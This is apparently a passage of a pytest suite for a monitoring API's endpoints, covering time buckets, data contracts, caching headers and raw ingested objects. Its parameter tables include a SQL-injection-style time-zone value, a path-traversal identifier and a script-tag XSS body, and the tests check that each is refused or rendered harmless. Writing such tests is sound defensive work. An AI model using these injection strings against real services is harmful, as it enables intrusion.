    assert (body["granularity"], body["tz"], len(body["kpis"])) == ("day", "Europe/Berlin", 1)


@pytest.mark.parametrize("path", ["/kpis", "/quality"])
def test_without_a_range_the_last_buckets_are_meant(get: Get, data: Data, path: str) -> None:
    for granularity in Granularity:
        get(path, {"granularity": granularity.value})
        asked = data.asked.pop()

        assert abs(asked["until"] - datetime.now(UTC)) < timedelta(minutes=1)
        assert asked["until"] - asked["since"] == granularity.default_range


def test_before_the_first_year_there_is_nothing_to_look_back_to(get: Get, data: Data) -> None:
    get("/kpis", {"to": "0001-01-01T00:00:01Z"})

    assert data.asked[0]["since"] == datetime.min.replace(tzinfo=UTC)


@pytest.mark.parametrize("path", ["/kpis", "/quality"])
@pytest.mark.parametrize(
    ("parameters", "broken"),
    [
        ({"granularity": "year"}, ("granularity", "request.invalid")),
        ({"tz": "Mars/Olympus"}, ("tz", "request.time_zone")),
        ({"tz": "CEST"}, ("tz", "request.time_zone")),
        ({"tz": "UTC'; --"}, ("tz", "request.time_zone")),
        ({"tz": ""}, ("tz", "request.time_zone")),
        ({"from": "2026-03-04T12:00Z", "to": "2026-03-04T12:00Z"}, ("from", "request.range_empty")),
        ({"from": "2026-03-04T12:00Z", "to": "2026-03-03T12:00Z"}, ("from", "request.range_empty")),
        (
            {"granularity": "minute", "from": "2026-03-04T12:00Z", "to": "2026-03-05T14:00Z"},
            ("from", "request.range_too_long"),
        ),
        ({"from": "0001-01-01T00:00Z", "to": "9999-12-31T23:59Z"}, ("from", "request.range_too_long")),
        ({"limit": "5001"}, ("limit", "request.out_of_range")),
        ({"cursor": "%"}, ("cursor", "request.invalid")),
    ],
)
def test_bad_parameters_of_buckets(get: Get, path: str, parameters: dict[str, str], broken: tuple[str, str]) -> None:
    assert refused(get(path, parameters)) == [broken]


@pytest.mark.parametrize("value", ["0", "-1", "nan", "inf", "1e9", "minute"])
def test_bad_expectations(get: Get, value: str) -> None:
    [(name, _)] = refused(get("/kpis", {"expected_seconds": value}))
    assert name == "expected_seconds"
    assert refused(get("/quality", {"expected_seconds": "1"})) == [("expected_seconds", "request.unknown")]


def test_the_longest_ranges(get: Get) -> None:
    for granularity in Granularity:
        longest = granularity.width * (granularity.max_buckets - 2)
        parameters = {"granularity": granularity.value, "to": "2026-03-04T12:00:00Z"}
        # A part of a bucket more is within the two that are spare.
        allowed = parameters | {"from": (NOON - longest - granularity.width + timedelta(seconds=1)).isoformat()}
        over = parameters | {"from": (NOON - longest - granularity.width).isoformat()}
        assert get("/kpis", allowed)["statusCode"] == 200
        assert refused(get("/kpis", over)) == [("from", "request.range_too_long")]


@pytest.mark.parametrize("path", ["/kpis", "/quality"])
def test_more_than_is_computed_at_once(get: Get, data: Data, path: str) -> None:
    data.parts = MAX_PARTS + 1
    assert refused(get(path)) == [("from", "request.too_much")]


def test_quality(get: Get, data: Data) -> None:
    data.quality = [QUALITY]

    body = json_body(get("/quality", {"granularity": "minute", "source": "a"}))

    assert body == {"quality": [shown(QUALITY)], "granularity": "minute", "tz": "UTC"}
    assert data.asked[0]["source"] == "a"


# ---- sources ---------------------------------------------------------------------------------------------------------


def test_sources(get: Get, data: Data) -> None:
    data.sources = [BOILER, NEVER]

    assert json_body(get("/sources")) == {"sources": [shown(BOILER), shown(NEVER)]}
    assert "kpis_hourly" not in data.asked[-1]["sql"]
    assert data.parameters() == {
        "prefix": "",
        "state": None,
        "after": None,
        "reads": None,
        "limit": 101,
    }


@pytest.mark.parametrize("name", ["", "ü/1", "a.b"])
def test_a_page_of_sources_leads_to_the_next(get: Get, data: Data, name: str) -> None:
    data.sources = [{**BOILER, "source": name}, NEVER]
    parameters = {"limit": "1", "state": "silent", "prefix": "b", "trend": "true"}

    body = json_body(get("/sources", parameters))

    assert len(body["sources"]) == 1
    get("/sources", parameters | {"cursor": body["cursor"]})
    assert "kpis_hourly" in data.asked[-1]["sql"]
    assert data.parameters() == {
        "prefix": "b",
        "state": "silent",
        "after": name,
        "reads": None,
        "limit": 2,
    }


# ---- contracts -------------------------------------------------------------------------------------------------------

CONTRACTS = sorted(contract.id for contract in deployed_contracts())
NOTHING_EXPECTED = dict.fromkeys(
    ("interval_seconds", "latency_seconds", "retention_seconds", "unchanged_seconds", "rejected_share")
)


def test_contracts_with_their_rules(get: Get) -> None:
    listed = json_body(get("/contracts"))["contracts"]

    assert [contract["id"] for contract in listed] == CONTRACTS
    by_id = {contract["id"]: contract for contract in listed}
    assert by_id["telegraf"]["has_mapping"] is True
    assert by_id["default"] == {
        "id": "default",
        "version": "1.0.0",
        "sources": [],
        "has_mapping": False,
        "rules": [
            {
                "id": "clock-ahead",
                "rule": "ahead",
                "severity": "warning",
                "dimension": "timeliness",
                "description": "the clock of the sender is probably wrong",
                "arguments": {"limit": "PT1H"},
            }
        ],
        "expectations": NOTHING_EXPECTED,
    }


def test_a_page_of_contracts_leads_to_the_next(get: Get) -> None:
    found: list[str] = []
    parameters = {"limit": "2"}
    for _ in CONTRACTS:
        page = json_body(get("/contracts", parameters))
        found += [contract["id"] for contract in page["contracts"]]
        if "cursor" not in page:
            break
        parameters["cursor"] = page["cursor"]

    assert found == CONTRACTS


@pytest.mark.parametrize("identifier", CONTRACTS)
def test_a_contract_as_it_runs_and_as_it_was_written(get: Get, identifier: str) -> None:
    answer = get(f"/contracts/{identifier}")
    text = get(f"/contracts/{identifier}", Accept="application/yaml")

    contract = json_body(answer)
    assert contract["expectations"] == NOTHING_EXPECTED
    stated = deployed_contracts().named(identifier)
    assert stated is not None
    assert {
        **{name: value for name, value in contract.items() if name != "expectations"},
        "rules": [
            {**{name: value for name, value in rule.items() if name != "arguments"}, **rule["arguments"]}
            for rule in contract["rules"]
        ],
    } == stated.model_dump(mode="json")
    assert (text["statusCode"], header(text, "Content-Type")) == (200, "application/yaml")
    written = PROJECT / "contracts" / f"{identifier}.odcs.yaml"
    assert text["body"] == written.read_text(encoding="utf-8")
    assert header(text, "ETag") != header(answer, "ETag")
    assert header(text, "Vary") == "Accept, Authorization, X-Api-Key, Accept-Encoding"


def test_a_contract_that_the_client_has_is_not_sent_again(get: Get) -> None:
    tag = header(get("/contracts/default"), "ETag")
    assert tag is not None

    assert get("/contracts/default", If_None_Match=tag)["statusCode"] == 304
    assert get("/contracts/telegraf", If_None_Match=tag)["statusCode"] == 200


@pytest.mark.parametrize("identifier", ["nobody", "Default", "..%2Fcontracts%2Fdefault", "default.odcs.yaml", "ü"])
@pytest.mark.parametrize("accept", ["application/json", "application/yaml"])
def test_there_is_no_such_contract(get: Get, identifier: str, accept: str) -> None:
    answer = get(f"/contracts/{identifier}", Accept=accept)

    assert refused(answer, 404) == []
    assert "no data contract" in json_body(answer)["detail"] or "no such path" in json_body(answer)["detail"]


def test_a_contract_is_not_to_be_had_as_csv(get: Get) -> None:
    answer = get("/contracts/default", Accept="text/csv")

    assert refused(answer, 406) == []
    assert "application/json, application/yaml" in json_body(answer)["detail"]


# ---- caches ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", "/measurements/2026-03-04T12:00Z"])
def test_what_the_client_has_is_not_sent_again_until_it_changes(get: Get, data: Data, path: str) -> None:
    data.measurements, data.kpis = [measured(0)], [KPI]
    data.quality = [QUALITY]
    parameters = {} if path.startswith("/measurements") else {"to": "2026-03-04T12:00Z"}
    first = get(path, parameters)
    tag = header(first, "ETag")
    assert tag is not None
    assert header(first, "Cache-Control") == "private, no-cache"

    assert tag.startswith('W/"'), "covers the body compressed and not"
    for given in (tag, tag.removeprefix("W/"), f'"other", {tag}', "*"):
        again = get(path, parameters, If_None_Match=given)
        assert (again["statusCode"], again["body"]) == (304, "")
        assert header(again, "ETag") == tag
        assert header(again, "Cache-Control") == "private, no-cache"
    assert get(path, parameters, If_None_Match='"other"')["statusCode"] == 200

    data.measurements, data.kpis = [measured(1)], [BARE]
    data.quality = [{**QUALITY, "source": "b"}]
    assert get(path, parameters, If_None_Match=tag)["statusCode"] == 200


def test_another_origin_reads_the_headers_and_caches_vary_by_form(
    get: Get, data: Data, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CORS_ORIGIN", "https://app.example.com")
    data.measurements = [measured(0)]

    answer = get("/measurements")

    assert header(answer, "Vary") == "Accept, Authorization, X-Api-Key, Accept-Encoding, Origin"
    exposed = header(answer, "Access-Control-Expose-Headers")
    assert exposed is not None
    assert {"ETag", "Link", "Content-Disposition"} <= set(exposed.split(", "))


@pytest.mark.parametrize("path", ["/measurements", "/kpis", f"/ingest/{RAW_ID}", f"/ingest/{RAW_ID}/raw", "/nowhere"])
def test_head_answers_as_get_does_without_the_body(get: Get, data: Data, path: str) -> None:
    data.measurements, data.kpis = [measured(0)], [KPI]
    data.hold_batch([event(0, measured(0))])
    data.raw[RAW_ID] = RawObject(RAW_ID, b"{}", "application/json", "", "")
    parameters = {"to": "2026-03-04T12:00Z"} if path == "/kpis" else {}

    got, head = get(path, parameters), get(path, parameters, method="HEAD")

    assert (head["statusCode"], head["body"]) == (got["statusCode"], "")
    assert head["multiValueHeaders"] == got["multiValueHeaders"]


# ---- objects as they were received -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "content_type", "encoding"),
    [
        (b'{"time_stamp": 1}', "application/json; charset=utf-8", ""),
        (bytes(range(256)), "application/x-ndjson", "gzip"),
        (b"<script>alert(1)</script>", "text/html", ""),
        (b"", "", ""),
        (b"x" * 4_500_000, "application/json", ""),
    ],
)
def test_an_object_comes_as_it_was_received_and_no_browser_shows_it(
    get: Get, data: Data, body: bytes, content_type: str, encoding: str
) -> None:
    identifier = raw_id()
    data.raw[identifier] = RawObject(identifier, body, content_type, "", encoding)

    answer = get(f"/ingest/{identifier}/raw", Accept_Encoding="gzip")

    assert answer["statusCode"] == 200
    assert answer["isBase64Encoded"] is True
    assert base64.b64decode(answer["body"]) == body
    assert header(answer, "Content-Type") == (content_type or "application/octet-stream")
    assert header(answer, "Vary") == "Authorization, X-Api-Key"
    assert header(answer, "Content-Encoding") == (encoding or None)
    assert header(answer, "Content-Disposition") == f'attachment; filename="{identifier}.json"'
    assert header(answer, "X-Content-Type-Options") == "nosniff"
    assert header(answer, "Content-Security-Policy") == "default-src 'none'; sandbox"
    assert header(answer, "Cache-Control") == "private, max-age=86400, immutable"
    again = get(f"/ingest/{identifier}/raw", If_None_Match=header(answer, "ETag") or "")
    assert (again["statusCode"], again["body"]) == (304, "")


@pytest.mark.parametrize(
    ("body", "content_type", "contract", "events"),
    [
        (
            b'{"data": [1e400]}\n\nno JSON\n{"a":  1}',
            "application/x-ndjson",
            "",
            ['{"data": [1e400]}', None, '{"a":  1}'],
        ),
        (b'[{"a": 1},\n 5]', "application/json", "", ['{"a":1}', "5", None]),
        (
            b'{"metrics": [{"name": "m", "fields": {"v": 5, "w": 6}, "tags": {"host": "h"}, "timestamp": 1556704800}]}',
            "application/json",
            "telegraf",
            [
                '{"schema_version":2,"time_stamp":"2019-05-01T10:00:00Z","data":[5],"source":"h/m/v","tags":{"metric":"m","field":"v","host":"h"}}',
                '{"schema_version":2,"time_stamp":"2019-05-01T10:00:00Z","data":[6],"source":"h/m/w","tags":{"metric":"m","field":"w","host":"h"}}',
                None,
            ],
        ),
        (
            b'[{"n": "a", "t": 1556704800, "v": 1}]',
            "application/senml+json",
            "",
            ['{"schema_version":2,"time_stamp":"2019-05-01T10:00:00Z","source":"a","data":[1]}'],
        ),
        (
            b'{"name": "m", "fields": {"v": 5}, "tags": {"host": "h"}, "timestamp": "now"}',
            "application/json",
            "telegraf",
            [
                (
                    '{"schema_version":2,"time_stamp":"now","data":[5],"source":"h/m/v",'
                    '"tags":{"metric":"m","field":"v","host":"h"}}'
                ),
            ],
        ),
        (b'{"time_stamp": 5}', "application/json", "no-more", [None]),
    ],
)
def test_one_event_of_an_object_comes_as_it_was_validated(
    get: Get, data: Data, body: bytes, content_type: str, contract: str, events: list[str | None]
) -> None:
    identifier = raw_id()
    data.raw[identifier] = RawObject(identifier, gzip.compress(body), content_type, "", "gzip", contract)

    assert header(get(f"/ingest/{identifier}/raw"), "Dropzone-Contract") == (contract or None)
    for item, event in enumerate(events):
        answer = get(f"/ingest/{identifier}/raw", {"item": str(item)})
        if event is None:
            assert refused(answer, 404) == []
        else:
            assert answer["statusCode"] == 200
            assert base64.b64decode(answer["body"]).decode() == event
            assert header(answer, "Content-Type") == "application/json"
            assert header(answer, "Content-Encoding") is None


def test_a_relative_time_of_an_event_is_counted_from_its_arrival(get: Get, data: Data) -> None:
    identifier = raw_id()
    data.raw[identifier] = RawObject(identifier, b'[{"n": "a", "t": -60, "v": 1}]', "application/senml+json", "")

    event = json.loads(base64.b64decode(get(f"/ingest/{identifier}/raw", {"item": "0"})["body"]))

    assert datetime.fromisoformat(event["time_stamp"]) == received_at(identifier) - timedelta(minutes=1)


def test_objects_that_are_not_there_and_a_bronze_that_is_not(get: Get, data: Data) -> None:
    gone, unread = raw_ids(2)
    data.raw[unread] = BronzeUnavailableError("S3 answered 503")

    assert refused(get(f"/ingest/{gone}/raw"), 404) == []
    assert refused(get(f"/ingest/{gone}/raw", If_None_Match=f'"{gone}"'), 404) == []
    assert refused(get(f"/ingest/{unread}/raw"), 503) == []
    assert refused(get("/ingest/1/raw")) == [("id", "request.invalid")]
